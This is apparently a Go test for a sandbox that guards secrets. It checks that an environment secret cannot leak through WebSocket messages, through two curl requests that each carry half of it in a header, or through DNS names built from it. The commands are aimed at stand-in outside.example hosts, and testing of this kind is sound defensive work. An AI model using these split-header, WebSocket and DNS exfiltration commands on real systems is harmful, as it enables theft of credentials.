package clients_test

import (
	"net/http"
	"strings"
	"testing"

	"golang.org/x/net/websocket"
)

// Ways past a look at requests: messages of a WebSocket, names in look-ups,
// and a placeholder in two requests. None carries a value.
func TestSecretsDoNotLeaveByOtherWays(t *testing.T) {
	t.Parallel()
	h, site, values := secretsHost(t, "ways")
	elsewhere := &told{}
	mux := http.NewServeMux()
	mux.Handle("/", elsewhere)
	mux.Handle("/socket", websocket.Server{Handler: func(conn *websocket.Conn) {
		_, _ = conn.Write([]byte("ready"))
		for {
			var message []byte
			if websocket.Message.Receive(conn, &message) != nil {
				return
			}
			elsewhere.mu.Lock()
			elsewhere.all = append(elsewhere.all, "message "+string(message))
			elsewhere.mu.Unlock()
			_, _ = conn.Write([]byte("got it"))
		}
	}})
	webSite(t, outside.Host("other-ways.outside.example"), mux)
	h.Must("create", "box")
	h.Must("allow", "box", "GET,POST https://other-ways.outside.example/", "*.names-of-ways.outside.example")
	placeholder := strings.TrimSpace(h.InsideShell("box", "printenv FROM_ENV").Stdout)
	value := values["FROM_ENV"]

	// The first message is the control, the second one has the placeholder.
	socket := strings.NewReplacer("HOST", "other-ways.outside.example", "ca.pem", `"+__import__("os").environ["SSL_CERT_FILE"]+"`,
		`b"again"`, `os.environ["FROM_ENV"].encode()`).Replace(webSocket("https"))
	got := h.InsideShell("box", socket)
	if !elsewhere.has("message hello") {
		t.Errorf("no message reaches the other host; the test shows nothing: %d %s%s", got.Code, got.Stdout, got.Stderr)
	}
	if elsewhere.has(value) || elsewhere.has(placeholder) {
		t.Errorf("by a message: %q", elsewhere.all)
	}

	// Half of it in each of two requests, to its own host and to another.
	for _, host := range []string{"other-ways.outside.example", "ways.outside.example"} {
		if got := h.InsideShell("box", `curl -sSf -m 30 -H "X-First: ${FROM_ENV%????????????????????}" https://`+host+`/first && curl -sSf -m 30 -H "X-Second: ${FROM_ENV#????????????????????}" https://`+host+`/second`); got.Code != 0 {
			t.Errorf("two requests to %s: %d %s", host, got.Code, got.Stderr)
		}
	}
	for _, to := range []*told{elsewhere, site} {
		if !to.has("X-First: "+placeholder[:len(placeholder)-20]) || !to.has("X-Second: "+placeholder[20:]) || to.has(value[13:20]) {
			t.Errorf("in pieces: %q", to.all)
		}
	}

	// As a name: one that is allowed, one that is not, and the control.
	h.InsideShell("box", `curl -sS -m 20 http://control.names-of-ways.outside.example/; curl -sS -m 20 "http://$FROM_ENV.names-of-ways.outside.example/"; getent hosts "$FROM_ENV.denied-ways.outside.example"`)
	asked := strings.ToLower(strings.Join(outside.Names.Asked("outside.example"), "\n"))
	if !strings.Contains(asked, "control.names-of-ways.outside.example") {
		t.Errorf("no name is looked up; the test shows nothing: %q", asked)
	}
	if strings.Contains(asked, strings.ToLower(value)) || strings.Contains(asked, "denied-ways") {
		t.Errorf("as a name: %q", asked)
	}

	if h.InsideShell("box", `curl -sSf -m 30 -H "X-Key: $FROM_ENV" https://ways.outside.example/`); !site.has("X-Key: " + value) {
		t.Error("its own host is not told; the test shows nothing")
	}
}
